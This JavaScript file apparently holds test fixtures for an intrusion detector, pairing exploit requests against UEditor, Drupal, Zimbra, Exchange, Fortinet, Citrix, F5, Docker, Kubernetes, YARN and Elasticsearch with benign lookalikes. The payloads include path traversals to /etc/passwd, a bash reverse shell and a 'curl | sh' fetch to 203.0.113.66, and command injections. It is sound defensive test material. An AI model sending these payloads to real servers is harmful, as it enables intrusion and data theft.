/** Gateways, mail servers, content management, container and search interfaces over HTTP. */
import { html, json, noise, notFound, page, text, toLogin } from './answers.mjs';
import { ID, PASSWD, form, of, post, xml } from './requests.mjs';

const enc = encodeURIComponent;
const saved = () => json({ ok: true });
const refused = () => [403, { 'Content-Type': 'text/html' }, '<h1>403 Forbidden</h1>'];

const ue = of('php/ueditor-net-catchimage');
const ueditor = [
  ue.hit('written', 'succeeded', 'source ends in .aspx behind a question mark, SUCCESS with the path', () => json({ state: 'SUCCESS', list: [{ state: 'SUCCESS', source: 'http://203.0.113.66/1.gif?.aspx', url: '/upload/image/20191018/6370.aspx' }] }), [form('/ueditor/net/controller.ashx?action=catchimage', `source[]=http://203.0.113.66/1.gif?.aspx`)]),
  ue.hit('refused', 'attempted', 'the address is refused', refused, [form('/ueditor/net/controller.ashx?action=catchimage', `source%5B%5D=${enc('http://203.0.113.66/2.jpg?.ashx')}`)]),
  ue.miss('pictures', 'an editor pastes pictures from another site', () => json({ state: 'SUCCESS', list: [] }), [form('/ueditor/net/controller.ashx?action=catchimage', `source[]=http://news.example.com/a/1.jpg&source[]=http://news.example.com/view.aspx.png`), ['/ueditor/net/controller.ashx?action=config']]),
];
const dg = of('php/drupal-render-array');
const drupal = [
  dg.hit('register', 'succeeded', 'Drupal 8 registration form, command output before the JSON', () => html(`${ID}[{"command":"insert"}]`), [form('/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax', 'form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id')]),
  dg.hit('seven', 'attempted', 'Drupal 7 password form, 404', notFound, [form('/?q=user/password&name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]=id', 'form_id=user_pass&_triggering_element_name=name')]),
  dg.miss('forms', 'forms of the site, a colour with a hash', saved, [form('/user/register', 'form_id=user_register_form&mail=a@example.com&user[color]=%23ff0000'), ['/node/1?tag=%23news']]),
];
const dl = of('php/drupal-rest-link');
const drupalRest = [
  dl.hit('echo', 'succeeded', 'serialised Guzzle object, command output', () => text(ID), [post('/node/1?_format=hal_json', JSON.stringify({ link: [{ value: 'link', options: 'O:24:"GuzzleHttp\\Psr7\\FnStream":2:{s:33:"x";a:1:{s:5:"close";s:2:"id";}}' }], _links: { type: { href: 'http://10.42.1.10/rest/type/shortcut/default' } } }), 'application/hal+json')]),
  dl.hit('refused', 'attempted', '403', refused, [post('/node/?_format=hal_json', '{"link":[{"value":"link","options":"O:3:\\"Foo\\":0:{}"}]}', 'application/hal+json')]),
  dl.miss('link', 'a link written by an editor', saved, [post('/entity/shortcut?_format=hal_json', '{"link":[{"uri":"internal:/","options":{"attributes":{}}}]}', 'application/hal+json')]),
];
const zm = of('mail/zimbra-xxe');
const zimbra = [
  zm.hit('localconfig', 'succeeded', 'external entity, the local configuration in the error', () => [503, { 'Content-Type': 'text/html' }, 'Error 503 Requested response schema not available: &lt;localconfig&gt;&lt;key name="zimbra_user"&gt;zimbra &lt;key name="zimbra_ldap_password"&gt;'], [xml('/Autodiscover/Autodiscover.xml', '<!DOCTYPE x [<!ENTITY % dtd SYSTEM "http://203.0.113.66/d"> %dtd; %all;]><Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a"><Request><EMailAddress>a</EMailAddress><AcceptableResponseSchema>&fileContents;</AcceptableResponseSchema></Request></Autodiscover>')]),
  zm.hit('absent', 'attempted', '404', notFound, [xml('/Autodiscover/Autodiscover.xml', '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><A>&f;</A>'), xml('/service/proxy?target=https://127.0.0.1:7071/service/admin/soap', '<soap/>')], {}),
  zm.miss('outlook', 'autodiscover of a mail client', () => [200, { 'Content-Type': 'text/xml' }, '<Autodiscover/>'], [xml('/Autodiscover/Autodiscover.xml', '<?xml version="1.0"?><Autodiscover><Request><EMailAddress>li@example.com</EMailAddress></Request></Autodiscover>'), ['/service/proxy?target=https://caldav.example.com/x']]),
];
const ep = of('mail/exchange-push-subscription');
const subscribe = (url) => xml('/EWS/Exchange.asmx', `<?xml version="1.0"?><soap:Envelope><soap:Body><m:Subscribe><m:${url ? 'PushSubscriptionRequest' : 'PullSubscriptionRequest'} SubscribeToAllFolders="true"><t:EventTypes><t:EventType>NewMailEvent</t:EventType></t:EventTypes>${url ? `<t:StatusFrequency>1</t:StatusFrequency><t:URL>${url}</t:URL>` : '<t:Timeout>10</t:Timeout>'}</m:${url ? 'PushSubscriptionRequest' : 'PullSubscriptionRequest'}></m:Subscribe></soap:Body></soap:Envelope>`, '-H', 'Authorization: NTLM TlRMTVNTUAAD');
const push = [
  ep.hit('subscribed', 'succeeded', 'push to the attacker, accepted', () => [200, { 'Content-Type': 'text/xml' }, '<m:SubscribeResponse><m:ResponseCode>NoError</m:ResponseCode><m:SubscriptionId>EABzdg==</m:SubscriptionId></m:SubscribeResponse>'], [subscribe('http://203.0.113.66/privexchange/')]),
  ep.hit('denied', 'attempted', '401', () => [401, { 'WWW-Authenticate': 'NTLM' }, ''], [subscribe('http://203.0.113.66:80/x')]),
  ep.miss('pull', 'a client that pulls', () => [200, { 'Content-Type': 'text/xml' }, '<ok/>'], [subscribe('')]),
];
const pl = of('mail/exchange-proxylogon');
const proxylogon = [
  pl.hit('back-end', 'succeeded', 'forged back end, its header in the reply', () => [241, { 'X-CalculatedBETarget': 'localhost', 'X-FEServer': 'EX01' }, '<LegacyDN>/o=First Organization</LegacyDN>'], [post('/ecp/y.js', '<Autodiscover/>', 'text/xml', '-H', 'Cookie: X-BEResource=localhost~1942062522')]),
  pl.hit('shell', 'succeeded', 'ProxyShell by autodiscover.json', () => [200, { 'X-FEServer': 'EX01' }, 'Microsoft Exchange MAPI'], [['/autodiscover/autodiscover.json?a@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3Fa@evil.example']]),
  pl.hit('patched', 'attempted', '404 of a repaired server', notFound, [['/autodiscover/autodiscover.json?@evil.example/powershell/?X-Rps-CAT=x&Email=autodiscover/autodiscover.json%3F@evil.example']]),
  pl.miss('autodiscover', 'clients find their mailbox', () => [200, { 'X-FEServer': 'EX01' }, '{"Protocol":"AutodiscoverV1"}'], [['/autodiscover/autodiscover.json/v1.0/li@example.com?Protocol=AutodiscoverV1'], ['/owa/', '-H', 'Cookie: X-BackEndCookie=S-1-5-21']]),
];
const fg = of('product/fortinet-traversal', { port: 8443 });
const fortinet = [
  fg.hit('session', 'succeeded', 'the session file', () => [200, { 'Content-Type': 'application/javascript' }, Buffer.concat([Buffer.from('var fgt_lang = \n'), Buffer.from('0000000000004f7a', 'hex'), Buffer.from('10.0.0.5\0\0\0zhangsan\0\0P@ssw0rd\0\0full-access'), noise(64, 3)])], [['/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession']]),
  fg.hit('patched', 'attempted', '403', refused, [['/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession'], form('/remote/logincheck', 'ajax=1&username=a&magic=4tinet2095866')]),
  fg.miss('language', 'the log-in page in two languages', () => [200, { 'Content-Type': 'application/javascript' }, 'var fgt_lang = {"login":"Login"};'], [['/remote/fgt_lang?lang=en'], ['/remote/fgt_lang?lang=zh-CN']]),
];
const pu = of('product/pulse-traversal', { port: 8443 });
const pulse = [
  pu.hit('passwd', 'succeeded', 'the password file', () => text(PASSWD), [['/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/']]),
  pu.hit('patched', 'attempted', '404', notFound, [['/dana-na/../dana/html5acc/guacamole/../../../../../../data/runtime/mtmp/lmdb/dataa/data.mdb?/dana/html5acc/guacamole/']]),
  pu.miss('portal', 'the portal', () => page('Pulse Connect Secure'), [['/dana-na/auth/url_default/welcome.cgi'], ['/dana/home/index.cgi?back=../x']]),
];
const cx = of('product/citrix-traversal', { port: 8443 });
const citrix = [
  cx.hit('smb-conf', 'succeeded', 'smb.conf', () => text('[global]\n  encrypt passwords = yes\n  name resolve order = lmhosts wins host bcast\n'), [['/vpn/../vpns/cfg/smb.conf']]),
  cx.hit('newbm', 'attempted', 'template written, 403 of a mitigated server', refused, [form('/vpn/../vpns/portal/scripts/newbm.pl', "url=http://example.com&title=x&desc=[%25 template.new('BLOCK'='print `id`')%25]", '-H', 'NSC_USER: ../../../netscaler/portal/templates/s', '-H', 'NSC_NONCE: 1')]),
  cx.miss('portal', 'the portal', () => page('NetScaler Gateway'), [['/vpn/index.html'], ['/vpns/portal/homepage.html', '-H', 'NSC_USER: li']]),
];
const f5 = of('product/f5-tmui', { port: 8443 });
const bigip = [
  f5.hit('read', 'succeeded', 'fileRead of the password file', () => json({ output: PASSWD }), [['/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd']]),
  f5.hit('bash', 'succeeded', 'iControl REST bash', () => json({ kind: 'tm:util:bash:runstate', commandResult: ID }), [post('/mgmt/tm/util/bash', '{"command":"run","utilCmdArgs":"-c id"}', 'application/json', '-H', 'Authorization: Basic YWRtaW46')]),
  f5.hit('patched', 'attempted', '404', notFound, [['/tmui/login.jsp/..;/tmui/locallb/workspace/tmshCmd.jsp?command=list+auth+user+admin']]),
  f5.miss('console', 'the console and its interface', () => page('BIG-IP'), [['/tmui/login.jsp'], ['/mgmt/tm/ltm/virtual', '-H', 'Authorization: Basic YWRtaW46']]),
];
const se = of('product/sangfor-edr', { port: 8443 });
const edr = [
  se.hit('log-tool', 'succeeded', 'the log tool runs id', () => html(`<p><b>Log Helper</b></p><pre>${ID}</pre>`), [['/tool/log/c.php?strip_slashes=system&host=id']]),
  se.hit('login', 'succeeded', 'session for any user', () => [302, { 'Set-Cookie': 'PHPSESSID=ab12; path=/', Location: '/ui/index.php' }, ''], [['/ui/login.php?user=admin']]),
  se.hit('patched', 'attempted', '404', notFound, [['/tool/log/c.php?strip_slashes=system&host=whoami']]),
  se.miss('console', 'an administrator logs in', () => page('EDR'), [['/ui/login.php'], ['/tool/log/index.html']]),
];
const qz = of('product/qizhi-bastion', { port: 8443 });
const bastion = [
  qz.hit('ha-request', 'succeeded', 'pipe in node_id, OK', () => text('OK'), [["/ha_request.php?action=install&ipaddr=203.0.113.66&node_id=1${IFS}|`echo${IFS}aWQ=|base64${IFS}-d|bash`|${IFS}|echo${IFS}".replaceAll('`', '%60')]]),
  qz.hit('patched', 'attempted', 'redirect to the log-in page', toLogin, [['/listener/cluster_manage.php?action=install&node_id=1%7Cid&ipaddr=203.0.113.66%7Cid']]),
  qz.miss('nodes', 'the nodes talk to each other', () => text('OK'), [['/ha_request.php?action=sync&ipaddr=10.42.1.11&node_id=2']]),
];
const dk = of('cloud/docker-privileged-container', { port: 2375 });
const container = (hostConfig) => post('/v1.40/containers/create', JSON.stringify({ Image: 'alpine:latest', Cmd: ['chroot', '/mnt', 'sh', '-c', 'id'], HostConfig: hostConfig }));
const docker = [
  dk.hit('created', 'succeeded', 'root of the host mounted, 201', () => [201, { 'Api-Version': '1.40', 'Content-Type': 'application/json' }, '{"Id":"e90e34656806e4d1ff6b0b4d1c1f5c3e1f1c3fa7d1f1e5a1","Warnings":[]}\n'], [container({ Binds: ['/:/mnt'] })]),
  dk.hit('denied', 'attempted', '403 of an authorisation plugin', () => json({ message: 'authorization denied by plugin' }, 403), [container({ Privileged: true })]),
  dk.miss('compose', 'a container with a volume of its own', () => [201, { 'Content-Type': 'application/json' }, '{"Id":"e90e34656806e4d1ff6b0b4d1c1f5c3e","Warnings":[]}'], [container({ Binds: ['/srv/data:/data'], Privileged: false }), ['/version']]),
];
const ks = of('cloud/kubernetes-unauthenticated', { port: 8080 });
const kubernetes = [
  ks.hit('run', 'succeeded', 'kubelet runs id', () => text(ID), [form('/run/default/web-5d9c/web', 'cmd=id')], { port: 10255 }),
  ks.hit('pod', 'succeeded', 'pod with the host\'s root, 201', () => [201, { 'Content-Type': 'application/json' }, '{"kind":"Pod"}'], [post('/api/v1/namespaces/default/pods', '{"kind":"Pod","spec":{"containers":[{"image":"alpine","securityContext":{"privileged":true}}],"volumes":[{"hostPath":{"path":"/"}}]}}')]),
  ks.hit('denied', 'attempted', '401', () => json({ kind: 'Status', code: 401 }, 401), [['/api/v1/namespaces/kube-system/secrets']]),
  ks.miss('operator', 'an operator with a token', () => json({ kind: 'SecretList' }), [['/api/v1/namespaces/default/secrets', '-H', 'Authorization: Bearer eyJ'], ['/api/v1/namespaces/default/pods'], form('/run/job/1', 'a=1')]),
];
const yn = of('cloud/yarn-application', { port: 8088 });
const application = (command, path = '/ws/v1/cluster/apps') => post(path, JSON.stringify({ 'application-id': 'application_1571385600000_0001', 'application-name': 'get-shell', 'am-container-spec': { commands: { command } }, 'application-type': 'YARN' }));
const yarn = [
  yn.hit('accepted', 'succeeded', 'reverse shell as an application, 202', () => [202, { Location: '/ws/v1/cluster/apps/application_1571385600000_0001' }, ''], [['/ws/v1/cluster/apps/new-application', '-X', 'POST'], application('/bin/bash -i >& /dev/tcp/203.0.113.66/9999 0>&1')]),
  yn.hit('denied', 'attempted', '401 with Kerberos', () => [401, { 'WWW-Authenticate': 'Negotiate' }, ''], [application('curl http://203.0.113.66/x|sh')]),
  yn.miss('spark', 'a job of the platform', () => [202, {}, ''], [application('{{JAVA_HOME}}/java -server org.apache.spark.deploy.yarn.ApplicationMaster'), ['/ws/v1/cluster/apps?state=RUNNING']]),
];
const es = of('database/elasticsearch-script', { port: 9200 });
const search = (script) => post('/_search?pretty', JSON.stringify({ size: 1, script_fields: { r: { lang: 'groovy', script } } }));
const elastic = [
  es.hit('groovy', 'succeeded', 'CVE-2015-1427 with output', () => json({ hits: { hits: [{ fields: { r: [ID] } }] } }), [search('java.lang.Math.class.forName("java.lang.Runtime").getRuntime().exec("id").getText()')]),
  es.hit('disabled', 'attempted', 'scripts are disabled', () => json({ error: 'scripts of type [inline], operation [search] and lang [groovy] are disabled' }, 400), [search('java.lang.Math.class.forName("java.lang.Runtime")')]),
  es.miss('analytics', 'sums in scripts', () => json({ hits: { hits: [{ fields: { r: [3] } }] } }), [search("doc['price'].value * params.factor"), post('/logs/_search', '{"query":{"match":{"msg":"getRuntime() failed"}}}')]),
];
export default [...ueditor, ...drupal, ...drupalRest, ...zimbra, ...push, ...proxylogon, ...fortinet, ...pulse, ...citrix, ...bigip, ...edr, ...bastion, ...docker, ...kubernetes, ...yarn, ...elastic];
